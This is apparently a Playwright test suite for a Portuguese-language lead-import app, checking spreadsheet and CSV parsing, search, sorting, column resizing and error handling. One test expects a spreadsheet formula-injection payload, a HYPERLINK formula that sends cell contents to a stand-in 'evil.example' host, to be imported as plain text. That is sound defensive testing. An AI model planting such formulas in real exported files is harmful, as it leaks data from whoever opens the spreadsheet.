import { mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { expect, test, reloadApp } from './fixtures'
import { tempCopy } from './support/files'

async function importFile(app: Page, relative: string): Promise<void> {
  await app
    .getByTestId('file-input')
    .first()
    .setInputFiles(await tempCopy(relative))
}

test.describe('Importar', () => {
  test('reads the sales workbook: sheet, header under the banner, phone column, row numbers', async ({
    app
  }) => {
    await importFile(app, 'leads/planilha-vendas.xlsx')
    const info = app.getByTestId('table-info')
    await expect(info).toContainText('planilha-vendas.xlsx')
    await expect(info).toContainText('Excel (.xlsx)')
    await expect(app.getByLabel('Aba')).toHaveValue('Leads')
    await expect(app.getByTestId('import-counts')).toContainText('1.000 linhas de dados')
    await expect(app.getByTestId('import-counts')).toContainText('1 linha de total/rodapé ignorada')
    await expect(app.getByTestId('header-row')).toHaveText('Cabeçalho na linha 3 · alterar')
    const phone = app.getByRole('combobox', { name: 'Telefone', exact: true })
    await expect(phone.locator('option:checked')).toHaveText('Telefone')
    const firstRow = app.getByTestId('lead-grid').getByRole('row').nth(1)
    await expect(firstRow.getByRole('rowheader')).toHaveText('4')
    await expect(firstRow).toContainText('+55 (42) 9 6891-0913')
    await app.screenshot({
      path: process.env['LEADPREP_UPDATE_SCREENSHOTS']
        ? 'resources/screenshots/import.png'
        : 'test-results/screenshots/import.png'
    })
    // A phone stored as a number keeps every digit (never 5,53299E+12).
    await app.getByLabel('Buscar nas linhas').fill('5532986244414')
    await expect(app.getByTestId('lead-grid').getByRole('row').nth(1)).toContainText(
      '5532986244414'
    )
  })

  test('reads the Windows-1252 CSV with accents right and counts blank rows', async ({ app }) => {
    await importFile(app, 'leads/excel-ptbr-cp1252.csv')
    const info = app.getByTestId('table-info')
    await expect(info).toContainText('windows-1252')
    await expect(info).toContainText('ponto e vírgula')
    await expect(app.getByTestId('import-counts')).toContainText('500 linhas de dados')
    await expect(app.getByTestId('import-counts')).toContainText('5 linhas em branco ignoradas')
    await expect(
      app.getByTestId('lead-grid').getByRole('columnheader', { name: /Razão Social/ })
    ).toBeVisible()
  })

  test('searches and sorts the rows', async ({ app }) => {
    await importFile(app, 'leads/crm-export-utf8.csv')
    const grid = app.getByTestId('lead-grid')
    // Accents and case do not matter: three JOSÉ CONCEIÇÃO rows, written three ways.
    await app.getByLabel('Buscar nas linhas').fill('jose conceicao')
    await expect(grid.getByRole('row')).toHaveCount(4)
    await expect(grid.getByRole('row').nth(1)).toContainText('JOSÉ CONCEIÇÃO')
    await expect(grid.getByRole('row').nth(1).getByRole('rowheader')).toHaveText('2')
    await app.getByLabel('Buscar nas linhas').fill('vitoria pereira martins')
    await expect(grid.getByRole('row')).toHaveCount(2)
    await expect(grid.getByRole('row').nth(1).getByRole('rowheader')).toHaveText('3')
    await app.getByLabel('Buscar nas linhas').fill('')
    await grid.getByRole('button', { name: 'Ordenar por Nome' }).click()
    await expect(grid.getByRole('columnheader').nth(1)).toHaveAttribute('aria-sort', 'ascending')
    // The arrow shows at once; the rows follow when the worker answers. Wait on the rows.
    await expect(grid.getByRole('row').nth(1)).toContainText(/Aline\s+das\s+Souza/)
    const first = await grid.getByRole('row').nth(1).getByRole('gridcell').first().textContent()
    const second = await grid.getByRole('row').nth(2).getByRole('gridcell').first().textContent()
    expect(
      (first ?? '').localeCompare(second ?? '', 'pt-BR', { sensitivity: 'base' })
    ).toBeLessThanOrEqual(0)
  })

  test('resizes a column by dragging its edge, header and cells together', async ({ app }) => {
    await importFile(app, 'leads/crm-export-utf8.csv')
    const grid = app.getByTestId('lead-grid')
    const header = grid.getByRole('columnheader').nth(1)
    const cell = grid.getByRole('row').nth(1).getByRole('gridcell').first()
    const before = (await header.boundingBox())?.width ?? 0
    const edge = await grid
      .getByRole('separator', { name: 'Ajustar largura de Nome' })
      .boundingBox()
    if (!edge) throw new Error('no resize handle')
    await app.mouse.move(edge.x + edge.width / 2, edge.y + edge.height / 2)
    await app.mouse.down()
    await app.mouse.move(edge.x + 120, edge.y + edge.height / 2, { steps: 5 })
    await app.mouse.up()
    await expect
      .poll(async () => (await header.boundingBox())?.width ?? 0)
      .toBeGreaterThan(before + 100)
    expect(Math.round((await cell.boundingBox())?.width ?? 0)).toBe(
      Math.round((await header.boundingBox())?.width ?? 0)
    )
  })

  test('moves the header row when the user clicks another row', async ({ app }) => {
    await importFile(app, 'real/13_flatfile_test-basic.xlsx')
    await expect(app.getByLabel('Aba')).toHaveValue('Clients')
    await app.getByLabel('Aba').selectOption('Rebates-Purchases')
    await expect(app.getByLabel('Aba')).toHaveValue('Rebates-Purchases')
    await app.getByTestId('header-row').click()
    await app.getByTestId('header-picker').locator('tr[data-row="2"]').click()
    await expect(app.getByTestId('header-row')).toHaveText('Cabeçalho na linha 2 · alterar')
  })

  test('opens a password-protected workbook once the password is typed', async ({ app }) => {
    await importFile(app, 'leads/broken/password-protected.xlsx')
    const prompt = app.getByTestId('password-prompt')
    await expect(prompt).toContainText('protegida por senha')
    await prompt.getByLabel('Senha da planilha').fill('errada')
    await prompt.getByRole('button', { name: 'Abrir' }).click()
    await expect(prompt.getByRole('alert')).toHaveText(/Senha incorreta/)
    await prompt.getByLabel('Senha da planilha').fill('senha123')
    await prompt.getByRole('button', { name: 'Abrir' }).click()
    await expect(app.getByTestId('table-info')).toBeVisible()
    await expect(prompt).toBeHidden()
  })

  const broken: [string, string, RegExp][] = [
    ['empty.csv', 'empty_file', /está vazio/],
    ['only-header.csv', 'no_data_rows', /só tem o cabeçalho/],
    ['page-saved-as.xls', 'html_no_table', /página HTML sem nenhuma tabela/],
    ['truncated.xlsx', 'damaged_file', /danificado ou incompleto/],
    ['unterminated-quote.csv', 'unterminated_quote', /aspa \("\) aberta e nunca fechada na linha 2/]
  ]
  for (const [file, code, message] of broken) {
    test(`says why ${file} cannot be read, and keeps the list already open`, async ({ app }) => {
      await importFile(app, 'leads/crm-export-utf8.csv')
      await expect(app.getByTestId('import-counts')).toContainText('500 linhas de dados')
      await importFile(app, `leads/broken/${file}`)
      const error = app.getByTestId('import-error')
      await expect(error).toHaveAttribute('data-code', code)
      await expect(error).toContainText(message)
      await expect(app.getByTestId('table-info')).toContainText('crm-export-utf8.csv')
      await expect(app.getByTestId('import-counts')).toContainText('500 linhas de dados')
    })
  }

  test('reads a CSV saved with an .xlsx name, with a notice', async ({ app }) => {
    await importFile(app, 'leads/broken/csv-named-as.xlsx')
    await expect(app.getByTestId('notice-read_as_csv')).toBeVisible()
    await expect(app.getByTestId('table-info')).toContainText('CSV')
  })

  test('imports formula-looking cells as plain text', async ({ app }) => {
    await importFile(app, 'leads/broken/formula-injection.csv')
    const row = app.getByTestId('lead-grid').getByRole('row').nth(1)
    await expect(row).toContainText('=HYPERLINK("http://evil.example/?x="&A1;"clique")')
  })

  test('reopens a file from Recentes', async ({ app, bridge }) => {
    bridge.dialog.next = await tempCopy('leads/crm-export-utf8.csv')
    await app.getByRole('button', { name: 'Escolher arquivo…' }).click()
    await expect(app.getByTestId('import-counts')).toContainText('500 linhas de dados')
    await reloadApp(app)
    await expect(app.getByTestId('recent-files')).toContainText('crm-export-utf8.csv')
    await app
      .getByTestId('recent-files')
      .getByRole('button', { name: /crm-export-utf8/ })
      .click()
    await expect(app.getByTestId('import-counts')).toContainText('500 linhas de dados')
  })

  test('a file with no phone column says so and the picker asks for one (issue 14)', async ({
    app
  }) => {
    const dir = await mkdtemp(join(tmpdir(), 'leadprep-import-'))
    const file = join(dir, 'agenda.csv')
    // Nothing here looks like a phone column by name or by content until a DDD is known.
    await writeFile(file, 'Cliente,Anotação\nAna Souza,98216-1160\nBruno Lima,982967097\n')
    await app.getByTestId('file-input').first().setInputFiles(file)
    await expect(app.getByTestId('import-counts')).toContainText('2 linhas de dados')
    const phone = app.getByRole('combobox', { name: 'Telefone', exact: true })
    // Not silently the first column: the picker asks.
    await expect(phone.locator('option:checked')).toHaveText('— escolha a coluna —')
    await expect(app.getByText('Nenhuma coluna de telefone foi encontrada')).toBeVisible()
    await phone.selectOption({ label: 'Anotação' })
    await expect(phone.locator('option:checked')).toHaveText('Anotação')
  })
})
